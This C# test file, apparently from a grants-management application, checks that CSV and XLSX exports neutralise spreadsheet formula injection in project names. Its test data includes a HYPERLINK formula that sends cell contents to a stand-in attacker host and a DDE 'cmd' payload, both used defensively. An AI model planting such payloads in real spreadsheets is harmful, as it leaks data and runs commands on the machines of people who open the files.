using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Grants.Infrastructure;
using Grants.Meetings;
using Grants.Minutes;
using Grants.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using static Grants.Tests.Economy.EconomicReportTests;

namespace Grants.Tests.Shared;

/// <summary>
/// CSV formula injection, as found: a project named "=HYPERLINK(...)" or "+cmd|' /C calc'!A0" came out of the
/// decisions list, the follow-up overview and the commitments CSV as a live formula. Now every text cell that
/// starts with = + - @, tab or CR is prefixed with an apostrophe, and XLSX holds it as an inline string.
/// </summary>
public sealed class SpreadsheetInjectionTests(GrantsApp app) : IClassFixture<GrantsApp>
{
    private const string Hyperlink = "=HYPERLINK(\"http://angripare.example/?d=\"&A1,\"Klicka\")";
    private const string Calc = "+cmd|' /C calc'!A0";

    [Theory]
    [InlineData(Hyperlink)]
    [InlineData(Calc)]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    public async Task The_commitments_CSV_neutralises_a_formula_typed_as_project_name(string name)
    {
        var kansli = await app.BearerClientAsync(Login.Secretariat);
        await Commit(kansli, name, 1_000, 2027, "2027-02-24");
        var csv = await CsvAsync(kansli, "/api/economy/exports/commitments?year=2027&format=csv");
        CellsOf(csv).Should().Contain("'" + name).And.NotContain(name);
        CellsOf(csv).Should().Contain("1000", "numbers stay numbers");
    }

    [Theory]
    [InlineData("\tformel", "'\tformel")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("-500 kr", "'-500 kr")]
    [InlineData("Projekt = bra", "Projekt = bra")]
    public void Tab_and_CR_first_are_neutralised_too_and_numbers_stay_numbers(string text, string cell)
    {
        var csv = Encoding.UTF8.GetString(new Grants.Shared.Spreadsheet("Test", ["Text", "Belopp"]).Add(text, -500L).ToCsv()).TrimStart('\uFEFF');
        csv.Should().Be($"Text;Belopp\r\n{cell};-500\r\n");
    }

    [Fact]
    public async Task The_follow_up_overview_neutralises_a_formula_in_the_project_name()
    {
        var id = await FollowUp.FollowUpArrange.DemoApplicationAsync(app, "Aktiv uppföljning");
        await FollowUp.FollowUpArrange.PublishAsync(app, id, DecisionKind.Granted, new DateOnly(2026, 4, 1), new DateOnly(2027, 3, 31),
            [new GrantedAmount(2026, 100_000)]);
        await RenameAsync(id, Hyperlink);
        var kansli = await app.BearerClientAsync(Login.Secretariat);
        CellsOf(await CsvAsync(kansli, "/api/follow-up/overview.csv")).Should().Contain("'" + Hyperlink).And.NotContain(Hyperlink);
        var xlsx = await kansli.GetByteArrayAsync("/api/follow-up/overview.xlsx");
        using var doc = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
        var sheet = doc.WorkbookPart!.WorksheetParts.Single().Worksheet;
        sheet.Descendants<CellFormula>().Should().BeEmpty("XLSX carries no formulas at all");
        sheet.Descendants<Cell>().Where(c => c.InnerText == Hyperlink).Should().ContainSingle()
            .Which.DataType!.Value.Should().Be(CellValues.InlineString);
    }

    [Fact]
    public async Task The_decisions_list_neutralises_a_formula_in_the_project_name()
    {
        var applicant = await app.BearerClientAsync(Login.Applicant);
        var draft = Api.IdOf(await applicant.CreateDraftAsync(Forms.Minimal(Calc)));
        await using (var scope = app.Services.CreateAsyncScope())
        {
            // An adjusted meeting whose § 650 decided the application (the board's journey is tested in Meetings/).
            var db = scope.ServiceProvider.GetRequiredService<GrantsDbContext>();
            var meeting = new Meeting { Date = new DateOnly(2026, 2, 24), State = MeetingState.Adjusted, Place = "Skellefteå", CreatedBy = "test" };
            meeting.Items.Add(new AgendaItem
            {
                MeetingId = meeting.Id, Position = 1, Kind = AgendaItemKind.Application, ApplicationId = draft, Title = Calc, ParagraphNumber = 650,
                Decision = new ItemDecision
                {
                    Recorded = true, Outcome = DecisionOutcome.Decided,
                    Clauses = [new DecisionClause { Kind = ClauseKind.Grant, Text = "att bevilja", Amounts = [new GrantedAmount(2026, 50_000)] }],
                },
            });
            db.Meetings.Add(meeting);
            await db.SaveChangesAsync();
        }
        var kansli = await app.BearerClientAsync(Login.Secretariat);
        CellsOf(await CsvAsync(kansli, "/api/meetings/decisions?year=2026&format=csv")).Should().Contain("'" + Calc).And.NotContain(Calc);
    }

    private async Task RenameAsync(Guid id, string name)
    {
        await using var scope = app.Services.CreateAsyncScope();
        await scope.ServiceProvider.GetRequiredService<GrantsDbContext>().Applications.Where(a => a.Id == id)
            .ExecuteUpdateAsync(s => s.SetProperty(a => a.ProjectName, name));
    }

    private static async Task<string> CsvAsync(HttpClient client, string url) =>
        Encoding.UTF8.GetString(await client.GetByteArrayAsync(url)).TrimStart('\uFEFF');

    /// <summary>The cells of a semicolon-separated CSV, quotes removed (enough for these rows).</summary>
    private static List<string> CellsOf(string csv) =>
        csv.Split("\r\n").SelectMany(line => line.Split(';')).Select(c => c.Length > 1 && c[0] == '"' ? c[1..^1].Replace("\"\"", "\"") : c).ToList();
}
